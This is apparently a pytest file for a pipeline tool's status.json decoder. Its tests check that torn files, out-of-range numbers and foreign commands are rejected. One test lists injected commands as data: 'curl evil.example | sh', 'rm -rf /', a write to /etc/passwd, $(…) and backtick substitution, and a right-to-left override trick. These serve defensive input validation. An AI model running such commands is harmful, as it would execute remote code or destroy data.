"""What is read of `status.json`: others may write there, and files may be torn."""

import json
from typing import Any

import pytest

from sluiceway.audit.job_status import parse_status
from sluiceway.followers.runner import FollowerState
from sluiceway.route.halt_report import HaltReport
from sluiceway.route.status import (
    EpochTold,
    RouteState,
    RouteStatus,
    decode_status,
    encode_status,
)

TOLD = RouteStatus(
    route="orders",
    table="ods.orders",
    state=RouteState.HALTED,
    report=HaltReport("gone", "", "", {}, ("sluiceway status JOB",)),
    last_commit_ms=1_780_000_000_000,
    watermark_us=-1,
    ignored_fields={"at_ms": 3},
    epochs=(EpochTold(3, 1_780_000_000_000, 1, 1, 0, 1, {"run": 0.5}),),
)


def changed(**fields: Any) -> bytes:
    return json.dumps(json.loads(encode_status(TOLD)) | fields).encode()


def with_command(command: str) -> bytes:
    report = {"what": "", "where": "", "hint": "", "evidence": {}, "commands": [command]}
    return changed(report=report)


def test_what_a_driver_writes_is_read() -> None:
    assert decode_status(encode_status(TOLD)) == TOLD
    behind = RouteStatus(route="a", table="b.c", followers=(FollowerState("files", 3, 0, 0.0, ""),))
    assert decode_status(encode_status(behind)) == behind


@pytest.mark.parametrize("size", range(0, len(encode_status(TOLD)) - 1, 7))
def test_torn_file_is_unreadable(size: int) -> None:
    assert decode_status(encode_status(TOLD)[:size]) is None


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("rows_per_s", "1e999"),
        ("rows_per_s", "-1e999"),
        ("last_commit_ms", "1" + "0" * 400),
        ("last_commit_ms", "-1"),
        ("since_ms", "253402300800000"),
        ("watermark_us", "9223372036854775807"),
        ("lag_records", "1" + "0" * 30),
        (
            "epochs",
            '[{"seq":1,"committed_ms":9e18,"rows_read":1,"rows_written":1,'
            '"rows_dirty":0,"files":1,"phases":{}}]',
        ),
    ],
)
def test_number_that_no_driver_says_makes_it_unreadable(name: str, text: str) -> None:
    raw = changed(**{name: "HERE"}).replace(b'"HERE"', text.encode())
    assert decode_status(raw) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "sluiceway status JOB; rm -rf /",
        "sluiceway status JOB && reboot",
        "sluiceway status JOB >/etc/passwd",
        "sluiceway status $(reboot)",
        "sluiceway status `reboot`",
        "sluiceway status JOB\nreboot",
        "sluiceway status 'JOB",
        "sluiceway status \u202eBOJ",
        "sluicewayx status JOB",
    ],
)
def test_command_that_does_more_than_ours_makes_it_unreadable(command: str) -> None:
    assert decode_status(with_command(command)) is None


@pytest.mark.parametrize(
    "command",
    [
        "sluiceway run JOB --takeover 3",
        "sluiceway offsets reset JOB --partition orders:0 --to 17 --reason 'cut; by us'",
    ],
)
def test_own_command_is_kept(command: str) -> None:
    status = decode_status(with_command(command))
    assert status is not None
    assert status.report is not None
    assert status.report.commands == (command,)


def test_file_of_another_route_says_nothing_of_this_one() -> None:
    assert parse_status("orders", encode_status(TOLD)) == TOLD
    assert parse_status("clicks", encode_status(TOLD)) is None
    assert parse_status("orders", b"{") is None
